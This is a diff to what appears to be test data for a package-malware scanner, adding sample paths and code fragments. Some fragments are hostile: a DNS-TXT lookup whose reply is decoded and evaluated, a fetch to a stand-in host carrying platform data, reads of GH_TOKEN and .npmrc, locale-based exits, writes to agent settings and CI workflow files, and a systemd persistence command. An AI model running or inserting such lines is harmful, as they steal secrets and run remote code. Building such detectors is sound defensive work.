@@ -26,7 +26,7 @@ REPOSITORIES = ["https://github.com/acme/ui.git", "https://github.com/other/thin
 REGISTERED = ["lodash", "react", "chalk", "glob", "@x/debug", "uuid", "semver"]
 PATHS = [
     "index.js", "lib/util.js", "src/main.ts", "dist/bundle.min.js", "test/a.test.js", "binding.gyp", "Makefile", "src/native.c", "README.md", "CLAUDE.md", ".cursorrules",
-    "scripts/setup.js", "trap-core.js", ".vscode/tasks.json", "mod.cjs", "mod.mjs", "lib/native.rs", "node_modules/a/b.js", "fixtures/data.js",
+    "scripts/setup.js", "trap-core.js", ".vscode/tasks.json", "mod.cjs", "mod.mjs", "lib/native.rs", "node_modules/a/b.js", "fixtures/data.js", "package-lock.json", "~/nt-1a/x.tar.gz",
 ]
 CODE = [
     "module.exports = function add(first, second) { return first + second; };", "const fs = require('fs'); fs.readFileSync('./data.json'); fetch('https://github.com/acme/x');",
@@ -43,7 +43,8 @@ CODE = [
     "from_pretrained('gooogle/bert')", "exec(Buffer.from('6c73', 'hex'))", "var _0x1f = ['\\x61\\x62\\x63\\x64\\x65\\x66\\x67\\x68\\x69'];", "const long = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk=';",
     "dns.resolveTxt('a.example', (e, r) => eval(Buffer.from(r[0], 'hex')));", "const parts = ['616263', '646566', '676869', '6a6b6c', '6d6e6f', '707172', '737475', '767778', 'x'];", "atob(parts[0]); fetch('http://b.example/' + process.platform);",
     "Bun.spawn(['ls']); const e = Bun.env.API_TOKEN;", "typeof Deno; Deno.connect({port: 1}); Deno.readTextFile('.npmrc')", "fs.writeFileSync('.claude/settings.json', x);", "fs.writeFile(path.join('.github', 'workflows', 'x.yml'), y);",
-    "{\"command\": \"npx x\", \"hooks\": {}}", "let count = 0; // a plain counter", "export default {name: 'plain', answer: 42};", "print('nothing to see here')", "class Point { constructor(x, y) { this.x = x; this.y = y; } }",
+    "require('ctf-scramble-v2');", "if (process.env.LANG === 'ru_RU') process.exit(0);", "process.env.GH_TOKEN; get('https://api.github.com/graphql')", "new dns.promises.Resolver().setServers(['37.16.75.1'])", "setImmediate(go); // sh.azurestaticprovider.net",
+    "systemctl enable x.service", "\"node-ipc\": {\"version\": \"9.1.6\"}", "{\"command\": \"npx x\", \"hooks\": {}}", "let count = 0; // a plain counter", "export default {name: 'plain', answer: 42};", "print('nothing to see here')", "class Point { constructor(x, y) { this.x = x; this.y = y; } }",
 ]
 REPUTABLE = ["lib7", "lib19", "paint22", "core11", "plain6"]
 
